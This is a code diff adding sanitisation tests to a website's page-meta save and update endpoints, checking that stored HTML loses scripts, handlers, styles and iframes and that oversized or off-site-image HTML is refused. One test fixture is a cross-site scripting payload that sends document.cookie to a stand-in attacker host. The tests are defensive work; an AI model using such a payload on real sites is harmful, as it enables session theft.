@@ -119,3 +119,38 @@ describe('saving a page meta', () => {
     expect((await get('/view?id=1&locale=en', 'viewer')).statusCode).toBe(200);
   });
 });
+
+describe('the HTML body the public site shows', () => {
+  const { SEO_MESSAGES, PAGE_META_LIMITS } = siteContract;
+  const meta = async (page: string, locale: string, html: string) => ({ pageId: await pageIdOf(page), locale, title: `${page} (${locale})`, description: 'Meta.', html });
+
+  it('is stored without scripts, styles or handlers, as an article body is', async () => {
+    const hostile = '<h2>Zakat</h2><script>fetch("https://evil.example/?c=" + document.cookie)</script><p onclick="steal()">Pay it</p><style>body{display:none}</style><iframe src="https://evil.example"></iframe>';
+    const saved = await post('save', await meta('Zakat Calculator', 'en', hostile));
+    expect(saved.statusCode).toBe(200);
+    expect(saved.json().data.html).toBe('<h2>Zakat</h2><p>Pay it</p>');
+    expect((await get(`/view?id=${await pageIdOf('Zakat Calculator')}&locale=en`)).json().html).toBe('<h2>Zakat</h2><p>Pay it</p>');
+    const updated = await post('update', await meta('Zakat Calculator', 'en', '<p>Due</p><script>alert(1)</script>'));
+    expect(updated.json().data.html).toBe('<p>Due</p>');
+  });
+
+  it('keeps the stored demo HTML as it is when it is saved again', async () => {
+    const home = await pageIdOf('Home');
+    const stored = siteContract.pageMeta.parse((await get(`/view?id=${home}&locale=en`)).json());
+    expect(stored.html).toContain('<h1>Welcome to Athan</h1>');
+    const again = await post('update', { pageId: home, locale: 'en', title: stored.title, description: stored.description, html: stored.html });
+    expect(again.statusCode).toBe(200);
+    expect(again.json().data.html).toBe(stored.html);
+  });
+
+  it.each([
+    ['tags nested far too deep', '<a>'.repeat(16_000), SEO_MESSAGES.htmlTooComplex],
+    ['a picture from another site', '<p>Hi</p><img src="https://tracker.example/pixel.png">', SEO_MESSAGES.htmlOutsidePicture],
+    ['HTML that sanitising makes longer than the limit', '&'.repeat(PAGE_META_LIMITS.html - 100), SEO_MESSAGES.htmlTooLong],
+  ])('refuses %s with 400 and its words, storing nothing', async (_, html, message) => {
+    const reply = await post('save', await meta('Contact Us', 'fr', html));
+    expect(reply.statusCode).toBe(400);
+    expect(reply.json()).toMatchObject({ message, fields: { html: message } });
+    expect((await get(`/view?id=${await pageIdOf('Contact Us')}&locale=fr`)).statusCode).toBe(404);
+  });
+});
